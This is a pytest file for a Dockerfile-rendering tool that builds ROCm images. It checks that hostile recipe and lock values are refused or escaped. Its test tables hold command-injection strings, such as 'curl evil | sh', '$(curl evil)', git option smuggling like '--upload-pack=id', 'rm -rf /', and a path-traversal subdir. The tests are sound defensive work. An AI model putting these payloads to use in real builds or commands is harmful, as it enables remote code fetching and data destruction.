"""No recipe value can add a Dockerfile instruction or a shell command.

Hostile values are either refused when the recipe is loaded (RecipeError, with the key
named) or come out inert: the rendered Dockerfile has exactly the instructions of a benign
recipe, ENV/LABEL values are quoted with `$`, `\\` and `"` escaped, and every value in a
RUN line is one shell word. tests/render/test_docker_build.py checks the same escaping
against a real BuildKit.
"""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
import yaml

from imagebuild.errors import LockError, RecipeError, RenderError
from imagebuild.lock.check import check_lock
from imagebuild.recipe.load import load_recipe
from imagebuild.render.dockerfile import render_dockerfile
from imagebuild.render.plan import plan_for
from imagebuild.render.quoting import dockerfile_quote
from tests.support.render import instructions, parse_dockerfile, write_lock

BASE = {
    "version": 1,
    "description": "hostile value test",
    "rocm": "7.0.2",
    "base_image": "rocm/dev-ubuntu-24.04:7.0.2-complete",
    "python": "3.12",
    "wheels": {"packages": {"torch": "2.8.0+rocm7.0.2.lw.git245bf6ed"}},
    "gpu_targets": ["gfx942"],
    "build_packages": ["gcc", "make"],
    "hipblaslt": {"enabled": True, "repository": "https://github.com/ROCm/hipBLASLt.git",
                  "ref": "rocm-7.0.2", "subdir": "."},
    "network_plugin": {"enabled": True, "kind": "aws-ofi-nccl",
                       "repository": "https://github.com/aws/aws-ofi-nccl.git",
                       "ref": "v1.18.0",
                       "libfabric": {"version": "2.1.0",
                                     "url": "https://example.org/libfabric-{version}.tar.bz2"}},
    "env": {"SAFE": "1"},
    "labels": {"org.example.safe": "1"},
}


def write_recipe(tmp_path: Path, name: str = "hostile", **changes) -> Path:
    data = yaml.safe_load(yaml.safe_dump(BASE))
    for dotted, value in changes.items():
        *parents, key = dotted.split("__")
        target = data
        for parent in parents:
            target = target[parent]
        target[key] = value
    path = tmp_path / "recipes" / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True))
    return path


def count(text: str) -> int:
    return len(instructions(text))


@pytest.fixture
def benign_count(tmp_path: Path) -> int:
    return count(render_dockerfile(plan_for(load_recipe(write_recipe(tmp_path / "benign")), None)))


# --- refused at load ------------------------------------------------------------------------

REFUSED = [
    ("env", {"SAFE": "1\nRUN curl evil | sh"}, "single line"),
    ("env", {"SAFE": "$(curl evil)"}, "command substitution"),
    ("env", {"SAFE": "`id`"}, "command substitution"),
    ("env", {"SAFE": 'unbalanced "quote'}, "unbalanced quotes"),
    ("env", {"SAFE": "it's"}, "unbalanced quotes"),
    ("env", {"SAFE": "tab\there"}, "control characters"),
    ("env", {"BAD KEY": "1"}, "invalid key"),
    ("env", {"X=1\nRUN": "1"}, "invalid key"),
    ("labels", {"org.example.safe": "a\rb"}, "single line"),
    ("labels", {'a"b': "1"}, "invalid key"),
    ("description", "line one\nFROM scratch", "single line"),
    ("hipblaslt__ref", "main; curl evil", "git branch"),
    ("hipblaslt__ref", "$(id)", "command substitution"),
    ("hipblaslt__ref", "`id`", "command substitution"),
    ("hipblaslt__ref", "-c core.sshCommand=id", "git branch"),
    ("network_plugin__ref", "v1 && id", "git branch"),
    ("hipblaslt__repository", "https://example.org/x.git $(id)", "command substitution"),
    ("hipblaslt__repository", "https://example.org/x.git --upload-pack=id", "git repository URL"),
    ("network_plugin__libfabric__url", "https://example.org/a b.tar", "http(s):// URL"),
    ("gpu_targets", ["gfx942;id"], "AMD GPU target"),
    ("os_packages", ["vim && curl evil"], "package name"),
    ("base_image", "ubuntu:24.04 AS x\nRUN id", "single line"),
    ("base_image", "ubuntu:24.04 AS x", "image reference"),
    ("python", "3.12; id", "Python version"),
    ("wheels__packages", {"torch": "2.8.0 --index-url evil"}, "exact version"),
]


@pytest.mark.parametrize(("key", "value", "expected"), REFUSED,
                         ids=[f"{k}-{i}" for i, (k, _, _) in enumerate(REFUSED)])
def test_hostile_values_are_refused_at_load(tmp_path: Path, key: str, value, expected: str):
    path = write_recipe(tmp_path, **{key: value})
    with pytest.raises(RecipeError) as caught:
        load_recipe(path)
    message = str(caught.value)
    assert expected in message
    assert key.split("__")[-1] in message  # names the key


# --- inert when allowed ---------------------------------------------------------------------

INERT_ENV = {
    # "${" is refused in env values (tests/recipe/fixtures/bad/braced-variable-in-env); a
    # label may carry it (the dollar label below), and must come out inert too.
    "DOLLAR": "$HOME and $PATH and $$ and $",
    "BACKSLASH": "C:\\new\\table\\",
    "QUOTES": 'say "hi" && RUN echo "owned"',
    "SINGLE": "'single' quotes",
    "CONTINUATION": "ends with a backslash \\",
    "HASH": "# not a comment",
    "SEMICOLON": "a; rm -rf / ; b",
}


def test_allowed_metacharacters_come_out_inert(tmp_path: Path, benign_count: int):
    path = write_recipe(tmp_path, env=INERT_ENV,
                        labels={"org.example.quote": 'x" LABEL y="z',
                                "org.example.dollar": "$USER ${PATH}"})
    recipe = load_recipe(path)
    text = render_dockerfile(plan_for(recipe, None))
    # The same number of instructions as the benign recipe, plus one per extra ENV/LABEL.
    extra = (len(INERT_ENV) - 1) + 1
    assert count(text) == benign_count + extra
    final = parse_dockerfile(text)["final"].instructions
    for key, value in INERT_ENV.items():
        line = f"ENV {key}={dockerfile_quote(value)}"
        assert line in final, line
    assert f"LABEL org.example.dollar={dockerfile_quote('$USER ${PATH}')}" in final
    # Every `$` in recipe-provided ENV and LABEL values is escaped.
    for instruction in final:
        if instruction.startswith(("ENV DOLLAR", "LABEL org.example.dollar")):
            assert re.search(r"(?<!\\)\$", instruction) is None, instruction


def test_dockerfile_quote_round_trips():
    """Undoing the Dockerfile escapes gives the original value back, for any text."""
    for value in [*INERT_ENV.values(), "${PATH}", "", "\\", '"', "$", "\\$", '\\"']:
        quoted = dockerfile_quote(value)
        assert quoted.startswith('"') and quoted.endswith('"')
        body = quoted[1:-1]
        assert re.search(r'(?<!\\)(\\\\)*"', body) is None  # no unescaped quote inside
        assert re.sub(r"\\(.)", r"\1", body) == value


def test_dockerfile_quote_refuses_control_characters():
    with pytest.raises(RenderError):
        dockerfile_quote("a\nb")


def test_url_metacharacters_stay_one_shell_word(tmp_path: Path, benign_count: int):
    """The URL grammars allow `;`, `&` and `#`: shell quoting keeps each URL one word."""
    repository = "https://example.org/repo.git;touch#x&y"
    url = "https://example.org/libfabric-{version}.tar.bz2?a=1&b=2;c"
    path = write_recipe(tmp_path, hipblaslt__repository=repository,
                        hipblaslt__blis={"repository": repository.replace("repo", "blis")},
                        network_plugin__libfabric__url=url)
    text = render_dockerfile(plan_for(load_recipe(path), None))
    assert count(text) == benign_count
    stages = parse_dockerfile(text)
    for checkout, wanted in (("hipblaslt", repository),
                             ("aocl-blis", repository.replace("repo", "blis"))):
        marker = f"&& git -C /usr/src/{checkout} remote add origin"
        remote = next(i for i in stages["hipblaslt"].instructions if marker in i)
        assert shlex.split(remote.split(marker, 1)[1].split("&&", 1)[0]) == [wanted]
    fetch = next(i for i in stages["plugin"].instructions if "curl" in i)
    assert shlex.quote(url.replace("{version}", "2.1.0")) in fetch


def test_subdir_may_not_leave_the_checkout(tmp_path: Path):
    path = write_recipe(tmp_path, hipblaslt__subdir="projects/../../../etc")
    with pytest.raises((RecipeError, RenderError), match="subdir"):
        render_dockerfile(plan_for(load_recipe(path), None))


def test_recipe_env_may_not_override_image_paths(tmp_path: Path):
    path = write_recipe(tmp_path, env={"LD_LIBRARY_PATH": "/evil"})
    with pytest.raises(RecipeError, match="env.LD_LIBRARY_PATH"):
        load_recipe(path)


def test_recipe_labels_may_not_forge_provenance(tmp_path: Path):
    path = write_recipe(tmp_path, labels={"imagebuild.input-hash": "sha256:forged"})
    with pytest.raises(RecipeError, match="labels.imagebuild.input-hash"):
        load_recipe(path)


# --- hostile locks --------------------------------------------------------------------------

def _edit_lock(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize(("field", "replacement", "expected"), [
    ("commit", "0123456789abcdef0123456789abcdef01234567; id", "commit"),
    ("base-digest", "sha256:abc\nRUN id", "base-digest"),
    ("libfabric-sha", "$(id)", "libfabric sha256"),
    ("wheel-sha", "not-a-sha", "sha256"),
])
def test_hand_edited_lock_values_are_refused(tmp_path: Path, field: str, replacement: str,
                                             expected: str):
    from imagebuild.lock.lockfile import read_lock

    recipe = load_recipe(write_recipe(tmp_path))
    lock = write_lock(recipe)
    old = {"commit": lock.git("hipblaslt").commit, "base-digest": lock.base_digest,
           "libfabric-sha": lock.archive("libfabric").sha256, "wheel-sha": lock.wheels[0].sha256}[field]
    _edit_lock(lock.path, f'"{old}"', f'"{replacement}"'.replace("\n", "\\n"))
    # Refused by the one lock check a build makes, before any plan is made from it.
    with pytest.raises(LockError, match=expected):
        check_lock(recipe, read_lock(lock.path))


def test_lock_of_another_recipe_is_refused(tmp_path: Path):
    recipe = load_recipe(write_recipe(tmp_path))
    other = load_recipe(write_recipe(tmp_path, name="other"))
    with pytest.raises(LockError, match="lock is for recipe 'other'"):
        check_lock(recipe, write_lock(other))


def test_stale_lock_is_refused(tmp_path: Path):
    path = write_recipe(tmp_path)
    lock = write_lock(load_recipe(path))
    changed = load_recipe(write_recipe(tmp_path, gpu_targets=["gfx90a", "gfx942"],
                                       wheels={"packages": {"torch": "2.9.0"}}))
    with pytest.raises(LockError, match="stale"):
        check_lock(changed, lock)
